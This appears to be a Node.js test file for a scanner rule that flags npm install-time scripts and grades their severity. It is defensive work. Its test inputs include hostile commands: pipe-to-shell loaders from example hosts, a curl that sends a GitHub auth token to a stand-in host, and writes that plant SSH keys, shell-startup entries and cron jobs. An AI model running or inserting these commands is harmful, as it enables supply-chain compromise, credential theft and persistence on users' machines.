import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, said } from '#test/support/scan-package.js';
import { rule } from './lifecycle-script.rule.js';

const manifest = (scripts: unknown) => JSON.stringify({ name: 'demo', scripts }, null, 2);

test('bad: scripts that run by themselves', () => {
  assert.deepEqual(said(rule, { 'package.json': manifest({ build: 'tsc', postinstall: 'node x.js' }) }), ['high package.json:5']);
  for (const name of ['preinstall', 'install', 'prepare', 'prepublish', 'postuninstall']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ [name]: 'x' }) }), ['high package.json:4'], name);
  }
  assert.match(findingsOf(rule, { 'package.json': manifest({ install: 'curl x' }) })[0]?.evidence ?? '', /"install": "curl x"/);
});

test('bad: commands that load or hide code', () => {
  for (const command of ['curl -fsSL https://example.org/i.sh | sh', 'powershell -c "iwr https://example.org/i | iex"', 'bash -c "$(curl -s https://example.org)"', `node -e "require('https').get('https://example.org')"`, 'echo aWQ= | base64 -d | bash']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['critical package.json:4'], command);
  }
  for (const command of ['node install.js', `node -e "try{require('./postinstall')}catch(e){}"`, 'node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'husky', 'patch-package', 'npm run build && rm -rf ./tmp']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['high package.json:4'], command);
  }
});

test('bad: native builds, and packages inside', () => {
  assert.deepEqual(said(rule, { 'binding.gyp': '{}' }), ['high binding.gyp']);
  assert.deepEqual(said(rule, { 'node_modules/a/package.json': manifest({ install: 'x' }) }), ['medium node_modules/a/package.json:4']);
});

test('bad: a manifest in another file', () => {
  assert.deepEqual(said(rule, { 'extension.json': '' }, { original: { scripts: { install: 'x' } } }), ['high']);
});

test('good: scripts that somebody has to start', () => {
  const scripts = { build: 'tsc', test: 'node --test', prepublishOnly: 'npm test', prepack: 'tsc', start: 'postinstall', 'postinstall:docs': 'x', preinstallation: 'x' };
  assert.deepEqual(said(rule, { 'package.json': manifest(scripts) }), []);
});

test('good: the words elsewhere', () => {
  assert.deepEqual(said(rule, { 'package.json': JSON.stringify({ contributes: { postinstall: 'x' }, scripts: { install: '' } }) }), []);
  assert.deepEqual(said(rule, { 'package.json': manifest(['postinstall']), 'docs/binding.gyp.md': '', 'a/package.json': 'no { json' }), []);
});

test('a line that shows a text, or starts a program as a script could', () => {
  const worst = (command: string) => findingsOf(rule, { 'package.json': manifest({ postinstall: command }) })[0]?.severity;
  for (const command of [
    String.raw`node -e "console.log('\u001b[35mThank you\u001b[39m\n > https://example.org/donate')"`,
    `node -e "console.log('Read https://example.org'); console.warn('and https://example.com');"`,
    `node -e "if (!process.env.CI) require('child_process').execSync('tool setup', {stdio: 'inherit'})"`,
    `node -e "require('node:child_process').exec('tool setup')"`,
    `node -e "const { execSync } = require('child_process'); if (!process.env.CI) execSync('tool setup')"`,
    `node -e 'process.stdout.write("Thank you, https://example.org")'`,
  ]) assert.equal(worst(command), 'high', command);
  for (const command of [
    `node -e "console.log('x'); require('https').get('https://example.org')"`,
    `node -e "/*console.log('*/require(x)(eval(y))/*')*/"`,
    `node -e "console.log('$(node -p https://example.org)')"`,
    `node -e "console.log(require('x')('https://example.org'))"`,
    `node -e "require('child_process').execSync('curl https://example.org/a -o a')"`,
    `node -e "require('child_process').execSync('bash', {input: x})"`,
    `node -e "require('child_process').execSync('a' + b)"`,
    `node -e "require('child_process').execSync(process.env.A)"`,
    `node -e "require('child_process').execSync('tool'); require('child_process').execSync(x)"`,
    `node -e "require('child_process').execSync('node -e eval(x)')"`,
    `node -e "const { execSync } = require('child_process'); execSync('tool'); execSync(x)"`,
    `node -e "const { execSync } = require('child_process'); const f = execSync; f(x)"`,
    `node -e "const { exec } = require('child_process'); exec('curl https://example.org')"`,
    `node -e "const { exec: f } = require('child_process'); f(x)"`,
    `node -e "const { spawn } = require('child_process'); spawn(x)"`,
    `node -e "process.stdout.write(await get('https://example.org'))"`,
  ]) assert.equal(worst(command), 'critical', command);
});

test('bad: a command that sends what another one tells', () => {
  const worst = (command: string) => findingsOf(rule, { 'package.json': manifest({ preinstall: command }) })[0]?.severity;
  assert.equal(worst('curl -s -d "$(gh auth token)" https://c.example/?t=gh'), 'critical');
  assert.equal(worst('curl -s -d "v=$(node -v)" https://c.example/installed'), 'high');
});

test('bad: a command that writes into what a shell, SSH or the system reads by itself', () => {
  const worst = (command: string) => findingsOf(rule, { 'package.json': manifest({ postinstall: command }) })[0]?.severity;
  for (const command of ['cat keys.pub >> ~/.ssh/authorized_keys', 'echo "node $PWD/a.js &" >> $HOME/.bashrc', 'echo "* * * * * root node /a.js" | tee -a /etc/cron.d/a']) assert.equal(worst(command), 'critical', command);
  for (const command of ['echo done >> ~/.cache/tool.log', 'cat ~/.bashrc > out.txt', 'node build.js > /dev/null']) assert.equal(worst(command), 'high', command);
});
